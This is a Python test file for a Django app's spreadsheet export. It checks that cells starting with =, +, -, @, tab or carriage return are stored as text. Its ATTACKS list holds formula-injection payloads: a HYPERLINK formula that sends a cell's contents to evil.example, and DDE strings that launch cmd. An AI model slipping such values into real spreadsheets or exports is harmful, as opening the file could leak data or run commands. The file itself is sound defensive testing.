"""No CSV or XLSX Parley writes lets a spreadsheet run a commenter's words as a formula:
every cell starting with = + - @ tab or carriage return is kept as text (prefixed with ')."""

import csv
import io
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest
from django.http import StreamingHttpResponse
from django.test import Client

from parley import spreadsheets
from parley.accounts.models import User
from parley.blog.models import Post
from parley.moderation import services
from tests.builders import comment_as

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(attack: str) -> None:
    assert spreadsheets.cell(attack) == "'" + attack


def test_other_cells_are_written_as_they_are() -> None:
    assert [spreadsheets.cell(v) for v in ["Hello = world", "", 7, None, "a@b"]] == [
        "Hello = world",
        "",
        7,
        None,
        "a@b",
    ]


def body(response: "_MonkeyPatchedWSGIResponse") -> bytes:
    if isinstance(response, StreamingHttpResponse):
        return b"".join(response.streaming_content)
    return response.content


def test_the_moderation_log_csv_keeps_a_formula_in_a_note_as_text(
    signed_in: Callable[[User], Client], post: Post, participant: User, moderator: User
) -> None:
    comment = comment_as(post, participant, "Off topic")
    services.moderate(
        comment=comment, moderator=moderator, action="remove", reason="off_topic", note=ATTACKS[3]
    )

    response = signed_in(moderator).get("/moderation/log.csv")

    rows = list(csv.reader(io.StringIO(body(response).decode())))
    assert rows[1][4] == "'" + ATTACKS[3]
